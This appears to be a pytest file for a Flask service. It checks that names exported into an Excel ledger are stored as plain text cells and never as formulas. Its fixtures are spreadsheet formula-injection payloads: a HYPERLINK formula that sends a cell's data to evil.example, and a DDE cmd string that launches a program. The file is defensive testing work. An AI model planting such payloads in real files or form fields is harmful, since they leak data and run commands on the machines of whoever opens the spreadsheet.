"""The ledger writes every text from users or the registry as text, never as a formula."""

from __future__ import annotations

import io

import openpyxl
from flask.testing import FlaskClient

from server.extensions import db
from server.services import audit
from tests.helpers import submit_failing_inspection

# Texts a spreadsheet would take for formulas (or the start of one) if written as such.
HOSTILE = {
    "enterprise": '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "site": "+1+cmd|' /C calc'!A0",
    "district": "-2+3",
}


def test_formula_like_names_are_written_as_strings(client: FlaskClient, headers, registry) -> None:  # type: ignore[no-untyped-def]
    enterprise = registry["shuozhou"]
    site = registry["sites"]["SZ-boiler_house"]
    # As a registry import would change them: each with its audit entry.
    enterprise.name = HOSTILE["enterprise"]
    enterprise.district = HOSTILE["district"]
    audit.record_registry(enterprise)
    db.session.flush()
    site.name = HOSTILE["site"]
    audit.record_registry(site)
    db.session.commit()
    submit_failing_inspection(client, headers, site)
    response = client.get("/api/v1/ledger.xlsx", headers=headers["supervisor"])
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    seen: dict[str, list[str]] = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    seen.setdefault(cell.value, []).append(sheet.title)
    assert HOSTILE["enterprise"] in seen and HOSTILE["site"] in seen, seen
    assert HOSTILE["district"] in seen
    for sheet in workbook.worksheets:
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
